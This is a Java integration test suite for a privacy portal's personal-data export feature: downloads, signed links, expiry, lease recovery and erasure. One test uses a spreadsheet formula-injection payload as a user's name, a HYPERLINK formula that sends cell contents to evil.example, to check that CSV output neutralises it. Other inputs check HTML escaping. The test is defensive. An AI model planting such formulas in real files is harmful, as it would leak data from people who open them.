package org.privacyportal.export;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;

import org.bson.Document;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.privacyportal.audit.AuditService;
import org.privacyportal.notification.PendingMail;
import org.privacyportal.security.Scopes;
import org.privacyportal.store.Leases;
import org.privacyportal.store.Leases.Lease;
import org.privacyportal.support.GraphQlResponse;
import org.privacyportal.support.PortalClient;
import org.privacyportal.support.PortalIntegrationTest;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.MessageSource;
import org.springframework.dao.DuplicateKeyException;
import org.springframework.data.mongodb.core.query.Criteria;
import org.springframework.data.mongodb.core.query.Query;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.privacyportal.export.ExportTestSupport.awaitStatus;
import static org.privacyportal.export.ExportTestSupport.claimed;
import static org.privacyportal.export.ExportTestSupport.closed;
import static org.privacyportal.export.ExportTestSupport.csvText;
import static org.privacyportal.export.ExportTestSupport.download;
import static org.privacyportal.export.ExportTestSupport.parseCsv;
import static org.privacyportal.export.ExportTestSupport.unzip;

class ExportTests extends PortalIntegrationTest {

	private static final JsonMapper JSON = JsonMapper.shared();

	@Autowired
	private MessageSource messages;

	@Autowired
	private ExportExpiry expiry;

	@Autowired
	private ExportEraser eraser;

	@Autowired
	private ExportFiles files;

	@Autowired
	private DownloadLinks links;

	@Autowired
	private AuditService audit;

	@Autowired
	private ExportUpdates updates;

	@Test
	void aRequestedExportIsPendingAndTheWorkerMakesItReady() {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");

		GraphQlResponse requested = alice.document("requestDataExport", "format", "JSON");

		assertThat(requested.path("data.requestDataExport.userErrors")).isEmpty();
		JsonNode pending = requested.path("data.requestDataExport.export");
		assertThat(pending.path("status").asString()).isEqualTo("PENDING");
		assertThat(pending.path("format").asString()).isEqualTo("JSON");
		assertThat(pending.path("downloadUrl").isNull()).isTrue();
		assertThat(pending.path("completedAt").isNull()).isTrue();
		JsonNode ready = awaitStatus(alice, pending.path("id").asString(), "READY");
		Instant completedAt = Instant.parse(ready.path("completedAt").asString());
		assertThat(Instant.parse(ready.path("expiresAt").asString())).isEqualTo(completedAt.plus(Duration.ofDays(7)));
		assertThat(ready.path("sizeBytes").asLong()).isPositive();
		assertThat(ready.path("downloadUrl").asString()).startsWith("/exports/" + pending.path("id").asString() + "/download?expires=");
		assertThat(actions(subjectId)).contains("export.requested", "export.started", "export.ready");
		GraphQlResponse forStaff = staff().document("subjectExports", "id", subjectId);
		assertThat(forStaff.text("data.subject.exports.edges.0.node.status")).isEqualTo("READY");
		assertThat(forStaff.path("data.subject.exports.edges.0.node.downloadUrl").isNull()).isTrue();
	}

	@Test
	void theJsonDownloadIsOneDocumentWithEverySection() {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		alice.document("updateConsents", "changes", List.of(Map.of("purposeKey", "analytics", "granted", false)),
				"channel", "web");
		String id = alice.document("requestDataExport", "format", "JSON").text("data.requestDataExport.export.id");
		JsonNode ready = awaitStatus(alice, id, "READY");

		HttpResponse<byte[]> file = download(baseUrl(), ready.path("downloadUrl").asString());

		assertThat(file.statusCode()).isEqualTo(200);
		assertThat(file.headers().firstValue("Content-Type")).hasValue("application/json");
		assertThat(file.headers().firstValue("Content-Disposition")).hasValue(
				"attachment; filename=\"privacy-export-" + LocalDate.ofInstant(clock.instant(), ZoneOffset.UTC) + ".json\"");
		assertThat(file.headers().firstValue("Content-Length")).hasValue(ready.path("sizeBytes").asString());
		JsonNode document = JSON.readTree(file.body());
		assertThat(document.path("subjectId").asString()).isEqualTo(subjectId);
		assertThat(Instant.parse(document.path("generatedAt").asString())).isBefore(clock.instant().plusSeconds(1));
		assertThat(document.path("sections").propertyNames()).contains("profile", "collectionSources", "consents",
				"consentHistory", "dataExports");
		JsonNode sections = document.path("sections");
		assertThat(sections.path("profile").get(0).path("email").asString()).endsWith("@example.com");
		assertThat(sections.path("collectionSources").get(0).path("source").asString()).isEqualTo("REGISTRATION");
		assertThat(sections.path("consentHistory")).hasSize(1);
		assertThat(sections.path("consentHistory").get(0).path("purposeKey").asString()).isEqualTo("analytics");
		assertThat(sections.path("consentHistory").get(0).path("granted").asBoolean(true)).isFalse();
		assertThat(sections.path("consentHistory").get(0).path("channel").asString()).isEqualTo("web");
		assertThat(sections.path("consents")).hasSize(6);
		assertThat(sections.path("dataExports").get(0).path("status").asString()).isEqualTo("RUNNING");
		assertThat(actions(subjectId)).contains("export.downloaded");
	}

	@Test
	void theZipHoldsTheJsonEveryCsvAndAReadableReportOfTheSameData() throws Exception {
		String sub = "zip-" + UUID.randomUUID();
		String name = "Zoë \"Z\" O'Brien, <b>Esq</b>";
		PortalClient zoe = as(sub, List.of(Scopes.SELF), sub + "@example.com", name);
		zoe.document("me");
		for (int i = 0; i < 5; i++) {
			zoe.document("updateConsents", "changes",
					List.of(Map.of("purposeKey", "company-marketing", "granted", i % 2 == 1),
							Map.of("purposeKey", "third-party-marketing", "granted", i % 2 == 0)),
					"channel", "web");
		}
		String id = zoe.document("requestDataExport", "format", "ZIP").text("data.requestDataExport.export.id");
		JsonNode ready = awaitStatus(zoe, id, "READY");

		HttpResponse<byte[]> file = download(baseUrl(), ready.path("downloadUrl").asString());

		assertThat(file.statusCode()).isEqualTo(200);
		assertThat(file.headers().firstValue("Content-Type")).hasValue("application/zip");
		assertThat(file.headers().firstValue("Content-Disposition").orElseThrow()).startsWith("attachment;")
			.endsWith(".zip\"");
		Map<String, String> entries = unzip(file.body());
		JsonNode data = JSON.readTree(entries.get("data.json"));
		List<String> keys = new ArrayList<>(data.path("sections").propertyNames());
		assertThat(entries.keySet()).containsExactlyElementsOf(expectedEntries(keys));
		assertThat(data.path("sections").path("consentHistory")).hasSize(10);
		assertThat(data.path("sections").path("profile").get(0).path("fullName").asString()).isEqualTo(name);

		for (String key : keys) {
			String csv = entries.get(key + ".csv");
			assertThat(csv).as(key).endsWith("\r\n");
			List<List<String>> records = parseCsv(csv);
			JsonNode rows = data.path("sections").path(key);
			assertThat(records).as(key).hasSize(rows.size() + 1);
			for (int r = 0; r < rows.size(); r++) {
				JsonNode row = rows.get(r);
				List<String> columns = new ArrayList<>(row.propertyNames());
				assertThat(records.get(0)).as(key)
					.containsExactlyElementsOf(columns.stream().map(new ReportLanguage("en", messages)::heading).toList());
				for (int c = 0; c < columns.size(); c++) {
					assertThat(records.get(r + 1).get(c)).as(key + " row " + r + " " + columns.get(c))
						.isEqualTo(csvText(row.path(columns.get(c))));
				}
			}
		}
		assertThat(entries.get("profile.csv")).contains("\"Zoë \"\"Z\"\" O'Brien, <b>Esq</b>\"");

		String report = entries.get("report.html");
		assertThat(report).startsWith("<!DOCTYPE html>")
			.contains("<title>The personal information we hold about you</title>")
			.contains("Zoë &quot;Z&quot; O&#39;Brien, &lt;b&gt;Esq&lt;/b&gt;")
			.doesNotContain("<b>Esq")
			.contains("How we obtained your information (§1)")
			.contains("You gave it to us when you registered on the site")
			.contains("Every consent choice recorded");
		String history = section(report, "consentHistory");
		assertThat(history.split("<tr>", -1)).hasSize(1 + 1 + 10);
		assertThat(history).contains("<th scope=\"col\">Purpose key</th>").contains("third-party-marketing");
		assertThat(section(report, "profile")).contains("<th scope=\"row\">Full name</th>");
	}

	@Test
	void csvCellsASpreadsheetWouldRunAsFormulasAreNeutralisedWhileTheJsonKeepsTheExactText() throws Exception {
		String sub = "formula-" + UUID.randomUUID();
		String name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
		PortalClient mallory = as(sub, List.of(Scopes.SELF), sub + "@example.com", name);
		mallory.document("me");
		// a leading tab or carriage return is trimmed from complaint texts; ExportArchiveTests covers those
		List<String> texts = List.of("+1 call me", "-2 days", "@SUM(A1:A9)", "plain = text");
		for (String text : texts) {
			assertThat(mallory.document("fileComplaint", "category", "OTHER", "summary", text, "description", text)
				.path("data.fileComplaint.userErrors")).isEmpty();
		}
		String id = mallory.document("requestDataExport", "format", "ZIP").text("data.requestDataExport.export.id");
		JsonNode ready = awaitStatus(mallory, id, "READY");

		Map<String, String> entries = unzip(download(baseUrl(), ready.path("downloadUrl").asString()).body());

		JsonNode data = JSON.readTree(entries.get("data.json"));
		assertThat(data.path("sections").path("profile").get(0).path("fullName").asString()).isEqualTo(name);
		assertThat(parseCsv(entries.get("profile.csv")).get(1)).contains("'" + name);
		String complaintsKey = data.path("sections").propertyNames().stream()
			.filter(key -> data.path("sections").path(key).toString().contains("@SUM(A1:A9)"))
			.findFirst().orElseThrow();
		List<String> cells = parseCsv(entries.get(complaintsKey + ".csv")).stream().flatMap(List::stream).toList();
		assertThat(cells).contains("'+1 call me", "'-2 days", "'@SUM(A1:A9)", "plain = text")
			.doesNotContain("+1 call me", "-2 days", "@SUM(A1:A9)");
		assertThat(data.path("sections").path(complaintsKey).toString()).contains("\"+1 call me\"", "\"@SUM(A1:A9)\"");
	}

	@Test
	void onlyTheFirstDownloadThroughALinkIsAudited() {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		String id = alice.document("requestDataExport", "format", "JSON").text("data.requestDataExport.export.id");
		String link = awaitStatus(alice, id, "READY").path("downloadUrl").asString();

		assertThat(download(baseUrl(), link).statusCode()).isEqualTo(200);
		assertThat(download(baseUrl(), link).statusCode()).isEqualTo(200);
		assertThat(download(baseUrl(), link, "Range", "bytes=10-").statusCode()).isIn(200, 206);

		assertThat(actions(subjectId)).filteredOn("export.downloaded"::equals).hasSize(1);
		clock.advance(Duration.ofMinutes(1));
		String another = ExportTestSupport.find(alice.document("myExports"), id).path("downloadUrl").asString();
		assertThat(another).isNotEqualTo(link);
		assertThat(download(baseUrl(), another).statusCode()).isEqualTo(200);
		assertThat(actions(subjectId)).filteredOn("export.downloaded"::equals).hasSize(2);
	}

	@Test
	void aSecondOpenExportIsRefusedEvenWhenRequestsRace() throws Exception {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		// an export another instance is building right now
		String running = UUID.randomUUID().toString();
		mongo.insert(claimed(DataExport.requested(running, subjectId, ExportFormat.ZIP, clock.instant()), 1, "elsewhere",
				"another-instance", clock.instant().plus(Duration.ofMinutes(10))));
		ExecutorService pool = Executors.newFixedThreadPool(4);
		try {
			List<Callable<GraphQlResponse>> requests = IntStream.range(0, 4)
				.<Callable<GraphQlResponse>>mapToObj(i -> () -> alice.document("requestDataExport", "format", "JSON"))
				.toList();
			for (Future<GraphQlResponse> response : pool.invokeAll(requests)) {
				GraphQlResponse refused = response.get();
				assertThat(refused.userErrorCodes("data.requestDataExport")).containsExactly("LIMIT_REACHED");
				assertThat(refused.path("data.requestDataExport.export").isNull()).isTrue();
			}
		}
		finally {
			pool.shutdown();
		}

		GraphQlResponse exports = alice.document("myExports");
		assertThat(exports.path("data.me.exports.totalCount").asInt()).isEqualTo(1);
		assertThat(exports.text("data.me.exports.edges.0.node.status")).isEqualTo("RUNNING");
		mongo.remove(Query.query(Criteria.where("_id").is(running)), DataExport.class);
		assertThat(alice.document("requestDataExport", "format", "JSON").path("data.requestDataExport.userErrors"))
			.isEmpty();
	}

	@Test
	void theStoreAllowsOneOpenExportPerSubjectAndAnyNumberOfClosedOnes() {
		String subjectId = UUID.randomUUID().toString();
		Instant now = clock.instant();
		for (ExportStatus closed : List.of(ExportStatus.READY, ExportStatus.FAILED, ExportStatus.EXPIRED)) {
			mongo.insert(closed(DataExport.requested(UUID.randomUUID().toString(), subjectId, ExportFormat.JSON, now),
					closed, now));
		}

		mongo.insert(open(subjectId, now));

		assertThatThrownBy(() -> mongo.insert(open(subjectId, now))).isInstanceOf(DuplicateKeyException.class);
		assertThat(mongo.count(Query.query(Criteria.where("subjectId").is(subjectId)), DataExport.class)).isEqualTo(4);
		mongo.remove(Query.query(Criteria.where("subjectId").is(subjectId)), DataExport.class);
	}

	@Test
	void anInvalidFormatIsAValidationErrorAndOnlySubjectsMayAsk() {
		GraphQlResponse invalid = newSubject().document("requestDataExport", "format", "PDF");
		GraphQlResponse staff = staff().document("requestDataExport", "format", "JSON");
		GraphQlResponse anonymous = anonymous().document("requestDataExport", "format", "JSON");

		assertThat(invalid.status()).isEqualTo(200);
		assertThat(invalid.errorClassifications()).containsExactly("ValidationError");
		assertThat(staff.errorClassifications()).containsExactly("FORBIDDEN");
		assertThat(staff.path("data").isNull()).as(staff.rawBody()).isTrue();
		assertThat(anonymous.status()).isEqualTo(401);
	}

	@Test
	void exportsAreListedNewestFirstPageByPage() {
		PortalClient alice = newSubject();
		String first = alice.document("requestDataExport", "format", "JSON").text("data.requestDataExport.export.id");
		awaitStatus(alice, first, "READY");
		clock.advance(Duration.ofMinutes(1));
		String second = alice.document("requestDataExport", "format", "ZIP").text("data.requestDataExport.export.id");
		awaitStatus(alice, second, "READY");

		GraphQlResponse page1 = alice.document("myExports", "first", 1);
		GraphQlResponse page2 = alice.document("myExports", "first", 1, "after",
				page1.text("data.me.exports.pageInfo.endCursor"));
		GraphQlResponse tooMany = alice.document("myExports", "first", 101);

		assertThat(page1.path("data.me.exports.totalCount").asInt()).isEqualTo(2);
		assertThat(page1.text("data.me.exports.edges.0.node.id")).isEqualTo(second);
		assertThat(page1.path("data.me.exports.pageInfo.hasNextPage").asBoolean()).isTrue();
		assertThat(page2.text("data.me.exports.edges.0.node.id")).isEqualTo(first);
		assertThat(page2.path("data.me.exports.pageInfo.hasNextPage").asBoolean()).isFalse();
		assertThat(tooMany.errorClassifications()).contains("BAD_REQUEST");
	}

	@Test
	void aTamperedForeignOrExpiredLinkIsRefusedWithoutTellingWhetherTheExportExists() {
		PortalClient alice = newSubject();
		PortalClient bob = newSubject();
		String aliceExport = alice.document("requestDataExport", "format", "JSON").text("data.requestDataExport.export.id");
		String bobExport = bob.document("requestDataExport", "format", "JSON").text("data.requestDataExport.export.id");
		String aliceLink = awaitStatus(alice, aliceExport, "READY").path("downloadUrl").asString();
		String bobLink = awaitStatus(bob, bobExport, "READY").path("downloadUrl").asString();
		String query = aliceLink.substring(aliceLink.indexOf('?'));
		String token = query.substring(query.indexOf("token=") + 6);
		String tampered = aliceLink.substring(0, aliceLink.length() - 2) + (token.endsWith("AA") ? "BB" : "AA");

		HttpResponse<byte[]> wrongToken = download(baseUrl(), tampered);
		HttpResponse<byte[]> otherExport = download(baseUrl(), "/exports/" + bobExport + "/download" + query);
		HttpResponse<byte[]> unknown = download(baseUrl(), "/exports/" + UUID.randomUUID() + "/download" + query);
		HttpResponse<byte[]> noToken = download(baseUrl(), "/exports/" + aliceExport + "/download");
		HttpResponse<byte[]> laterExpiry = download(baseUrl(),
				aliceLink.replaceFirst("expires=(\\d+)", "expires=" + clock.instant().plus(Duration.ofDays(1)).getEpochSecond()));

		for (HttpResponse<byte[]> refused : List.of(wrongToken, otherExport, unknown, noToken, laterExpiry)) {
			assertThat(refused.statusCode()).isEqualTo(404);
			assertThat(refused.headers().firstValue("Content-Type").orElseThrow()).startsWith("application/json");
			assertThat(new String(refused.body(), StandardCharsets.UTF_8)).isEqualTo(new String(unknown.body(), StandardCharsets.UTF_8));
		}
		assertThat(download(baseUrl(), bobLink).statusCode()).isEqualTo(200);

		clock.advance(Duration.ofMinutes(16));
		HttpResponse<byte[]> expired = download(baseUrl(), aliceLink);

		assertThat(expired.statusCode()).isEqualTo(403);
		assertThat(new String(expired.body(), StandardCharsets.UTF_8)).contains("link_expired");
	}

	@Test
	void anotherSubjectsExportsAreNotListedForThem() {
		PortalClient alice = newSubject();
		PortalClient bob = newSubject();
		String aliceExport = alice.document("requestDataExport", "format", "JSON").text("data.requestDataExport.export.id");
		awaitStatus(alice, aliceExport, "READY");

		GraphQlResponse bobs = bob.document("myExports");

		assertThat(bobs.path("data.me.exports.totalCount").asInt()).isZero();
		assertThat(bobs.rawBody()).doesNotContain(aliceExport);
	}

	@Test
	void readyExportsExpireAfterSevenDaysAndTheirFileIsDeleted() {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		String id = alice.document("requestDataExport", "format", "ZIP").text("data.requestDataExport.export.id");
		awaitStatus(alice, id, "READY");
		String fileId = mongo.findById(id, DataExport.class).fileId();

		clock.advance(Duration.ofDays(6));
		expiry.expireDue();
		JsonNode stillReady = awaitStatus(alice, id, "READY");
		clock.advance(Duration.ofDays(1).plusMinutes(1));
		expiry.expireDue();
		JsonNode expired = awaitStatus(alice, id, "EXPIRED");

		assertThat(stillReady.path("downloadUrl").isNull()).isFalse();
		assertThat(expired.path("downloadUrl").isNull()).isTrue();
		assertThat(files.exists(fileId)).isFalse();
		assertThat(mongo.getCollection(ExportFiles.CHUNKS).countDocuments(new Document("files_id", fileId))).isZero();
		assertThat(download(baseUrl(), links.issue(id, subjectId)).statusCode()).isEqualTo(404);
		assertThat(actions(subjectId)).contains("export.expired");
		assertThat(alice.document("requestDataExport", "format", "JSON").path("data.requestDataExport.userErrors"))
			.isEmpty();
	}

	@Test
	void aSectionThatFailsMarksTheExportFailedWithAReasonOnlyStaffSee() {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		alice.document("updateConsents", "changes", List.of(Map.of("purposeKey", "analytics", "granted", false)));
		// a history entry the consent section cannot read
		mongo.getCollection("consent_events")
			.updateOne(new Document("_id", subjectId + ":1"),
					new Document("$set", new Document("granted", "perhaps").append("at", "yesterday")));
		String id = alice.document("requestDataExport", "format", "ZIP").text("data.requestDataExport.export.id");

		JsonNode failed = awaitStatus(alice, id, "FAILED");
		GraphQlResponse forStaff = staff().document("subjectExports", "id", subjectId);

		assertThat(failed.path("failureReason").isNull()).isTrue();
		assertThat(failed.path("downloadUrl").isNull()).isTrue();
		assertThat(forStaff.text("data.subject.exports.edges.0.node.failureReason")).contains("consentHistory");
		assertThat(mongo.getCollection(ExportFiles.FILES).countDocuments(new Document("metadata.exportId", id))).isZero();
		assertThat(mongo.getCollection(ExportFiles.CHUNKS).countDocuments(new Document("files_id", id + "/1"))).isZero();
		assertThat(actions(subjectId)).contains("export.failed");
		assertThat(alice.document("requestDataExport", "format", "JSON").path("data.requestDataExport.userErrors"))
			.isEmpty();
	}

	@Test
	void anExportWhoseSubjectIsGoneFails() {
		String subjectId = UUID.randomUUID().toString();
		String id = UUID.randomUUID().toString();
		mongo.insert(DataExport.requested(id, subjectId, ExportFormat.JSON, clock.instant()));

		org.awaitility.Awaitility.await()
			.atMost(Duration.ofSeconds(30))
			.until(() -> mongo.findById(id, DataExport.class).status() == ExportStatus.FAILED);

		DataExport failed = mongo.findById(id, DataExport.class);
		assertThat(failed.failureReason()).isEqualTo("The subject no longer exists");
		assertThat(failed.openSlot()).isNull();
		assertThat(failed.claim()).isNull();
	}

	@Test
	void anExportWhoseWorkerCrashedIsFinishedOnceItsLeaseRunsOut() {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		String id = UUID.randomUUID().toString();
		// a worker claimed it, wrote a first chunk and died; its lease ran out a second ago
		mongo.insert(claimed(DataExport.requested(id, subjectId, ExportFormat.ZIP, clock.instant().minusSeconds(120)), 1,
				"dead-claim", "crashed-instance", clock.instant().minusSeconds(1)));
		mongo.getCollection(ExportFiles.CHUNKS)
			.insertOne(new Document("files_id", DataExport.fileId(id, 1)).append("n", 0)
				.append("data", new org.bson.types.Binary(new byte[] { 1, 2, 3 })));

		awaitStatus(alice, id, "READY");

		DataExport done = mongo.findById(id, DataExport.class);
		assertThat(done.attempts()).isEqualTo(2);
		assertThat(done.fileId()).isEqualTo(DataExport.fileId(id, 2));
		assertThat(done.openSlot()).isNull();
		assertThat(mongo.getCollection(ExportFiles.CHUNKS).countDocuments(new Document("files_id", DataExport.fileId(id, 1))))
			.isZero();
		assertThat(actions(subjectId)).contains("export.started", "export.ready");
	}

	@Test
	void anExportClosedByAWorkerThatDiedBeforeItsAuditEventGetsTheEventOnce() {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		String id = UUID.randomUUID().toString();
		mongo.insert(claimed(DataExport.requested(id, subjectId, ExportFormat.JSON, clock.instant()), 1, "dying-claim",
				"dying-instance", clock.instant().plus(Duration.ofMinutes(5))));
		Leases<DataExport> leases = new Leases<>(mongo, DataExport.class, Duration.ofMinutes(2), clock);
		ExportOutcome dying = new ExportOutcome(mongo, leases, files, audit, updates, clock);
		// the closing write went through, then the instance died before the audit event
		assertThat(dying.closeReady(new Lease<>(mongo.findById(id, DataExport.class), id, "dying-claim"), 42)).isTrue();

		ExportOutcome another = new ExportOutcome(mongo, leases, files, audit, updates, clock);
		another.recordPending();
		another.recordPending();

		assertThat(actions(subjectId)).containsOnlyOnce("export.ready");
		DataExport ready = mongo.findById(id, DataExport.class);
		assertThat(ready.status()).isEqualTo(ExportStatus.READY);
		assertThat(ready.pendingAudit()).isNull();
		assertThat(ready.outbox()).extracting(PendingMail::template).containsExactly("export-ready");
	}

	@Test
	void anExportInterruptedTooOftenFailsInsteadOfStayingRunning() {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		String id = UUID.randomUUID().toString();
		mongo.insert(claimed(DataExport.requested(id, subjectId, ExportFormat.JSON, clock.instant().minusSeconds(600)),
				3, "dead-claim", "crashed-instance", clock.instant().minusSeconds(1)));

		awaitStatus(alice, id, "FAILED");

		DataExport failed = mongo.findById(id, DataExport.class);
		assertThat(failed.failureReason()).contains("interrupted 3 times");
		assertThat(failed.openSlot()).isNull();
	}

	@Test
	void aLeaseHeldByALiveWorkerIsLeftAlone() throws Exception {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		String id = UUID.randomUUID().toString();
		mongo.insert(claimed(DataExport.requested(id, subjectId, ExportFormat.JSON, clock.instant()), 1, "live-claim",
				"another-instance", clock.instant().plus(Duration.ofMinutes(5))));

		Thread.sleep(500);

		DataExport untouched = mongo.findById(id, DataExport.class);
		assertThat(untouched.claim()).isEqualTo("live-claim");
		assertThat(untouched.attempts()).isEqualTo(1);
		mongo.remove(Query.query(Criteria.where("_id").is(id)), DataExport.class);
	}

	@Test
	void erasingASubjectsExportsRemovesThemAndTheirFilesAndCanRunAgain() {
		PortalClient alice = newSubject();
		String subjectId = alice.document("me").text("data.me.id");
		String first = alice.document("requestDataExport", "format", "ZIP").text("data.requestDataExport.export.id");
		awaitStatus(alice, first, "READY");
		String second = alice.document("requestDataExport", "format", "JSON").text("data.requestDataExport.export.id");
		awaitStatus(alice, second, "READY");
		PortalClient bob = newSubject();
		String bobs = bob.document("requestDataExport", "format", "JSON").text("data.requestDataExport.export.id");
		awaitStatus(bob, bobs, "READY");

		eraser.erase(subjectId);
		eraser.erase(subjectId);

		assertThat(mongo.count(Query.query(Criteria.where("subjectId").is(subjectId)), DataExport.class)).isZero();
		assertThat(mongo.getCollection(ExportFiles.FILES).countDocuments(new Document("metadata.subjectId", subjectId)))
			.isZero();
		for (String id : List.of(first, second)) {
			assertThat(mongo.getCollection(ExportFiles.CHUNKS).countDocuments(new Document("files_id", id + "/1")))
				.isZero();
		}
		assertThat(files.exists(mongo.findById(bobs, DataExport.class).fileId())).isTrue();
		assertThat(eraser.collections()).containsExactlyInAnyOrder("exports", ExportFiles.FILES, ExportFiles.CHUNKS);
	}

	private List<String> actions(String subjectId) {
		return ExportTestSupport.auditActions(staff(), subjectId);
	}

	private static DataExport open(String subjectId, Instant now) {
		return DataExport.requested(UUID.randomUUID().toString(), subjectId, ExportFormat.JSON, now);
	}

	private static List<String> expectedEntries(List<String> keys) {
		List<String> entries = new ArrayList<>();
		entries.add("data.json");
		keys.forEach(key -> entries.add(key + ".csv"));
		entries.add("report.html");
		return entries;
	}

	/** The HTML of one report section. */
	private static String section(String report, String key) {
		int start = report.indexOf("<section id=\"" + key + "\">");
		assertThat(start).as(key).isNotNegative();
		return report.substring(start, report.indexOf("</section>", start));
	}

}
